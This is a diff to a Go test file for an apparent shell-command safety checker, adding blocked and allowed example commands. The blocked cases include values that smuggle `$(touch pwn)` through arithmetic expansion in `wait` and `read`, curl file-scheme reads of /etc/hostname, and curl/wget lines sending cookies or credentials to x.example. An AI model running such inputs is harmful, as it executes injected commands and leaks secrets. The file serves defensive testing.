@@ -76,6 +76,8 @@ func TestBuiltinOptions(t *testing.T) {
 		`hash -p ./evil ls`, `getopts -- a PATH -a`, `exit 'a[$(x)]'`, `type -x ls`,
 		`zsh -c "exit 'a[\$(touch x)]'"`, `zsh -c "[ 'a[\$(touch x)]' -eq 1 ]"`, `ksh -c "printf %d 'a[\$(touch x)]'"`,
 	)
+	heldLines(t, `PID='-p a[$(touch pwn)]'; sleep 0 & wait -n $PID`, `read X <<< '-pa[$(touch pwn)]'; wait "$X"`, `export P='-pa[$(touch pwn)]'; wait "$P"`, `jobs $X`)
+	freeLines(t, `sleep 1 & PID=$!; wait $PID`, `go test ./... & wait "$PID"`)
 	readLines(t, `jobs -l`, `jobs`, `sleep 1 & wait`, `sleep 1 & wait -n`, `exit 1`, `exit`, `false || exit $?`, `type -a ls`, `umask 022`, `ulimit -n`,
 		`ulimit -n 1024`, `ulimit -a`, `pushd sub; popd`, `dirs -v`, `wait %1`, `help cd`)
 	freeLines(t, `go test ./...; exit $?`)
@@ -162,9 +164,9 @@ func TestLosesWork(t *testing.T) {
 		`cp -r sub/.vscode .`, `cp sub/.envrc .`, `install sub/.envrc .`, `cp -t . sub/.envrc`, `cp a sub/.envrc sub2`, `mv sub/.envrc ..`, `mv sub/.envrc .`, `ln -s sub/.envrc .`, `ln -s ../a/.envrc sub/`, `git mv sub/.envrc .`,
 		`cp -r x/.git y`, `ln -sr ../outside sub/l`, `ln --symbolic --relative ../outside sub/l`,
 		`curl '{file:}///etc/hostname'`, `curl 'fi[l-l]e:/etc/hostname'`, `curl '{file,http}://x/y'`, `curl -O 'https://x.example/.envrc#a'`, `curl -O 'https://x.example/.envrc?a#b'`, `curl -b "$(cat f)" https://x.example`,
-		`curl --cookie "$X" https://x.example`, `wget https://x.example/%2Eenvrc`, `wget https://x.example/%2egit`,
+		`curl --cookie "$X" https://x.example`, `wget https://x.example/%2Eenvrc`, `wget https://x.example/%2egit`, `curl -o '#1' 'https://x.example/{.envrc}'`, `wget --http-user="$X" https://x.example`,
 	)
-	freeLines(t, `git clean -nd`, `git clean --dry-run`, `zip -r a.zip src`, `git checkout main`, `git checkout v1.2.3`, `git checkout release-1.2`, `git checkout -b feature/x.y`, `git checkout feature/x`, `git checkout -`, `git checkout HEAD~2`,
+	freeLines(t, `git clean -nd`, `git clean --dry-run`, `zip -r a.zip src`, `git checkout main`, `git checkout v1.2.3`, `git checkout release-1.2`, `git checkout -b feature/x.y`, `git checkout feature/x`, `git checkout feature/login.form`, `git checkout -`, `git checkout HEAD~2`,
 		`git gc`, `git maintenance run`, `cp a.txt b.txt`, `cp -r src dst`, `cp a b sub/`, `cp .gitignore sub/`, `mv a.go b.go`, `mv a.go sub/`, `install -m 755 a bin/a`, `ln -s a b`, `ln -s ../a sub/b`, `ln -sr a sub/b`, `git mv a b`,
 		`curl -s 'http://localhost:8080/a?x={1,2}'`, `curl -sS http://localhost:8080/health`, `curl -O https://x.example/a.tar.gz`, `wget https://x.example/a%20b.txt`, `curl -m "$T" http://localhost/`, `curl http://[::1]:8080/`)
 }
